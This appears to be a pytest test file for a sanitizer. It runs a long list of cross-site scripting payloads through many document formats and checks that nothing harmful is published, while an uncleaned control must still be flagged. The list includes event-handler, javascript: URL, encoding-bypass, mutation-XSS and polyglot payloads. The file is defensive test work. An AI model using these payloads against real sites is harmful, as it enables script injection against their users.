"""Attacks of every known class, in every field of every kind of document, through to what is published.

The check (`benchmarks/harm.py`) parses what is published as a browser does; without cleaning it has to find a lot.
"""

from pathlib import Path

import pytest

from benchmarks import harm
from benchmarks.payloads import TOGETHER, Tally, as_they_are, attacks, cleaned, documents

ATTACKS = [
    # scripts, whole, nested, broken, in odd spelling
    "<script>go()</script>", "<SCRIPT SRC=//bad.example/x.js></SCRIPT>", "<scr<script>ipt>go()</scr</script>ipt>", "<script/x>go()</script>",
    "<script\n>go()</script\n>", "<<script>go()//<</script>", "<script>go()", "</script><script>go()</script>", "<script type=module>import 'x'</script>",
    "<script>go()<!--", '"><script>go()</script>', "'><script>go()</script>", "]]><script>go()</script>", "--><script>go()</script>", "<ſcript>go()</ſcript>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>go()</script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>go()</x:script>",
    # handlers
    "<img src=x onerror=go()>", "<img src=x OnErRoR=go()>", "<img/src=x/onerror=go()>", "<img src='x'onerror=go()>", "<img src=x\nonerror\n=\ngo()>",
    "<img src=`x`onerror=go()>", "<img onerror='go()' src>", "<body onload=go()>", "<p onmouseover=go()>x</p>", "<b/onclick=go()>x</b>",
    "<details open ontoggle=go()><summary>x", "<input autofocus onfocus=go()>", "<marquee onstart=go()>x</marquee>", "<video onloadstart=go()><source>",
    "<audio src=x onerror=go()>", "<video><source onerror=go()></video>", "<td onpointerenter=go()>x", "<a href=https://a.example/ onclick=go()>x</a>",
    "<xss onanimationend=go()>x</xss>", "<p tabindex=1 onfocusin=go() autofocus>x", "<img src=x alt='' title='\"onerror=go() x=\"'>", "<a id=x onbeforecopy=go()>x",
    "<img src=https://a.example/b.jpg\x0bonerror=go()>", "<img src=x onerror\x0c=go()>", "<svg><animate onbegin=go() attributeName=x dur=1s></svg>",
    # addresses
    "<a href=javascript:go()>x</a>", "<a href='JaVaScRiPt:go()'>x</a>", "<a href='java\tscript:go()'>x</a>", "<a href='java\nscript:go()'>x</a>",
    "<a href='&#1;javascript:go()'>x</a>", "<a href='\x01javascript:go()'>x</a>", "<a href=' &#14; javascript:go()'>x</a>", "<a href='&#x6A;avascript:go()'>x</a>",
    "<a href='javascript&colon;go()'>x</a>", "<a href='java&Tab;script:go()'>x</a>", "<a href='java&NewLine;script:go()'>x</a>", "<a href='&#0000106avascript:go()'>x</a>",
    "<a href='vbscript:go()'>x</a>", "<a href='data:text/html,<script>go()</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://a.example/x'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='feed:javascript:go()'>x</a>", "<a href='view-source:javascript:go()'>x</a>",
    "<a href='jar:https://a.example/x!/y'>x</a>", "<a href='//bad.example'>x</a>", "<a href='\\\\bad.example'>x</a>", "<a href='https:javascript:go()'>x</a>",
    "<a href='javascript://%0ago()'>x</a>", "<a href='java\u200bscript:go()'>x</a>", "<a href='\u2028javascript:go()'>x</a>", "<a href='ｊavascript:go()'>x</a>",
    "<img src='javascript:go()'>", "<img src='data:image/svg+xml,<svg onload=go()>'>", "<img srcset='javascript:go() 1x, x 2x'>", "<img data-src='javascript:go()' src=data:x>",
    "<img src=x lowsrc=javascript:go() dynsrc=javascript:go()>", "<picture><source srcset='javascript:go()'><img></picture>", "<blockquote cite=javascript:go()>x",
    "<table background=javascript:go()><td background=javascript:go()>x", "<form action=javascript:go()><button>x</form>", "<button formaction=javascript:go()>x",
    "<isindex action=javascript:go() type=submit>", "<a ping='https://bad.example/' href='#'>x</a>", "<area href=javascript:go()>", "<map><area href=javascript:go()></map>",
    "javascript:go()", " javascript:go()", "java\tscript:go()", "data:text/html,<script>go()</script>", 'https://a.example/"onmouseover="go()', "https://a.example/?'><script>go()</script>",
    "https://a.example@bad.example/<svg onload=go()>", "https://a.example/x#<img src=x onerror=go()>", 'http://[::1]/"><b onclick=go()>',
    # what loads or frames
    "<iframe src=javascript:go()></iframe>", "<iframe srcdoc='<script>go()</script>'>", "<object data=javascript:go()></object>", "<embed src=//bad.example/x.swf>",
    "<applet code=x></applet>", "<frameset><frame src=javascript:go()></frameset>", "<link rel=stylesheet href=//bad.example/x.css>", "<link rel=import href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:go()'>", "<base href='//bad.example/'>", "<portal src=//bad.example>", "<param name=src value=x>",
    # styles
    "<style>@import '//bad.example/x.css';</style>", "<p style='background:url(javascript:go())'>x", "<div style='width:expression(go())'>x", "<b style='position:fixed;inset:0'>x</b>",
    "<style><img src='</style><img src=x onerror=go()>'>", "<p class='text notice' id=main>x</p>", '<div style="x:\\65xpression(go())">x',
    # foreign content, and what parsers disagree about
    "<svg onload=go()>", "<svg><script>go()</script></svg>", "<svg><a xlink:href=javascript:go()><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>", "<math href=javascript:go()>x</math>", "<math><mi xlink:href=javascript:go()>x</mi></math>",
    "<svg></p><style><a title='</style><img src=x onerror=go()>'>", "<math><mtext><table><mglyph><style><img title='</style><img src=x onerror=go()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=go()>", "<svg><title><style><a id='</style><img src=x onerror=go()>'>",
    "<noscript><p title='</noscript><img src=x onerror=go()>'>", "<noscript><img src=x onerror=go()></noscript>", "<noembed><img title='</noembed><img src=x onerror=go()>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=go()>'>", "<textarea><a title='</textarea><img src=x onerror=go()>'>", "<title><a title='</title><img src=x onerror=go()>'>",
    "<template><script>go()</script></template>", "<template><svg><style></template><img src=x onerror=go()>", "<select><template><img src=x onerror=go()></select>",
    "<plaintext><script>go()", "<listing>&lt;img src=x onerror=go()&gt;</listing>", "<table><a href=x><tr><script>go()</script></table>", "<p><svg><p><script>go()</script>",
    "<annotation-xml encoding='text/html'><img src=x onerror=go()></annotation-xml>", "<math><annotation-xml encoding=text/html><script>go()</script>",
    # comments, instructions, sections
    "<!--<img src='--><img src=x onerror=go()>'>", "<!--!><script>go()</script>-->", "<!--> <script>go()</script> -->", "<![CDATA[<script>go()</script>]]>", "<?xml-stylesheet href='javascript:go()'?>",
    "<!doctype x [<!ENTITY y '<script>go()</script>'>]>&y;", "<!-- --!><img src=x onerror=go()> -->", "<%<script>go()</script>%>", "</ <img src=x onerror=go()>", "<? <img src=x onerror=go()> ?>",
    # escaped, once or several times
    "&lt;script&gt;go()&lt;/script&gt;", "&amp;lt;script&amp;gt;go()&amp;lt;/script&amp;gt;", "&#60;img src=x onerror=go()&#62;", "&#x3c;svg/onload=go()&#x3e;", "%3Cscript%3Ego()%3C/script%3E",
    "\\u003cscript\\u003ego()", "+ADw-script+AD4-go()", "＜script＞go()＜/script＞", "<\u0338script>go()</script>", "\u00c2<script\u00c2>go()", "<scr\u00adipt>go()</scr\u00adipt>", "<scr\u200bipt>go()</script>",
    # quotes and ends of attributes
    '" onmouseover=go() x="', "' onmouseover=go() x='", "<img alt='><script>go()</script>' src='https://a.example/x'>", "<a href=\"https://a.example/'\"onclick=go()>x</a>",
    "<abbr title='&quot; onmouseover=go() &quot;'>x</abbr>", '<img src="https://a.example/x" alt="&quot;><script>go()</script>">', "<a href='https://a.example/`onclick=go()'>x</a>",
    "<td colspan='2\" onclick=go()'>x", "<ol start='1 onclick=go()'><li>x</ol>", "<img src=https://a.example/x width='1e9\" onload=go()'>",
    # clobbering, templates, hanging markup, one that suits many places
    "<form name=body><input name=attributes></form>", "<img name=getElementById>", "<a id=location href=https://a.example/>x</a>", "{{constructor.constructor('go()')()}}", "{% raw %}<b onclick=go()>{% endraw %}",
    "${go()}", "<img src='https://bad.example/?", "<a href='https://bad.example/?x", "<textarea><p>x", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+go()//'>",
]  # fmt: skip


def test_there_are_attacks_of_every_class_and_each_is_another():
    assert len(ATTACKS) == len(set(ATTACKS)) > 150


@pytest.fixture(scope="module")
def tallies() -> tuple[Tally, Tally]:
    """Every attack in every field where a document holds many of them; every fourth one where each needs its own."""
    program, control = Tally(cleaned), Tally(as_they_are)
    for at, (carried, document) in enumerate(documents(ATTACKS)):
        if carried in TOGETHER or at % 4 == 0:
            program.add(carried, document)
        if carried in TOGETHER or at % 20 == 0:
            control.add(carried, document)
    program.finish()
    control.finish()
    return program, control


def test_nothing_harmful_is_published(tallies: tuple[Tally, Tally]):
    program, _ = tallies

    assert program.stories > 800
    assert program.examples == {}


def test_the_same_check_finds_harm_in_every_format_if_nothing_is_cleaned(tallies: tuple[Tally, Tally]):
    _, control = tallies

    assert control.wrong > 1000
    # The others are read into blocks of our own, whatever they hold.
    assert {*TOGETHER, "RSS, not escaped", "Atom, XHTML"} <= set(control.by_carrier)


@pytest.mark.parametrize(
    "harmful",
    ["<script>1</script>", "<p onclick=x>y", "<p style=x>y", "<img src=javascript:x>", "<a href='java\tscript:x'>y</a>", "<a href='\x01https://a.example'>"[:9] + "data:x'>y</a>",
     "<!-- x -->", "<svg></svg>", "<math><mi>x</mi></math>", "<iframe srcdoc=x></iframe>", "<a href='/relative'>x</a>", "<a href='//a.example'>x</a>", "<xmp>x</xmp>", "<form>x</form>",
     "<pre>\n\nx</pre><table><p>y</table><plaintext>"],
)  # fmt: skip
def test_the_check_can_fail(harmful: str):
    assert harm.fragment(harmful)


@pytest.mark.parametrize(
    "harmful",
    ["<form action=https://a.example/ class=search role=search method=get></form>", "<form action=search class=search role=search method=post></form>", "<input type=password>", "<button onclick=x>y</button>",
     "<button>a</button><button>b</button>", "<meta property=og:image content=data:x>", "<meta property=refresh content=x>", "<meta name=refresh content=x>", "<a href=feed:javascript:x>y</a>",
     "<img src=https://a.example/x srcset=x>", "<img src=feed:data:x>"],
)  # fmt: skip
def test_the_check_of_pages_can_fail(harmful: str):
    assert harm.page(f"<!doctype html><html><head><title>x</title></head><body>{harmful}</body></html>")


def test_the_check_lets_through_what_may_be_published():
    html = '<p>a <a href="https://a.example/" rel="noopener nofollow">b</a></p>\n<table><tbody><tr><td colspan="2">c</td></tr></tbody></table>'

    assert not harm.fragment(html)
    assert (
        harm.page(
            f'<!doctype html><html lang="en"><head><title>x</title></head><body>{html}<a href="../y">z</a></body></html>'
        )
        == []
    )
    assert harm.page("<p onclick=x>y") != harm.page("<a href=javascript:x>y</a>") != []


def test_lists_are_read_from_lines_blocks_and_strings(tmp_path: Path):
    (tmp_path / "a.txt").write_text("<b onclick=1>\n<i onclick=2>\n")
    (tmp_path / "b.md").write_text("# Title\n\n```html\n<u onclick=3>\n```\n")
    (tmp_path / "c.js").write_text("const x = [\"<a href='\\u006aavascript:4'>\", 'plain words'];")
    (tmp_path / "d.json").write_text('{"x": {"code": "<* onclick=5>"}}')

    found = attacks([tmp_path])

    assert {
        "<b onclick=1>",
        "<i onclick=2>",
        "<u onclick=3>",
        "<a href='javascript:4'>",
        "<* onclick=5>",
        "<img onclick=5>",
    } <= set(found)
    assert "plain words" not in found
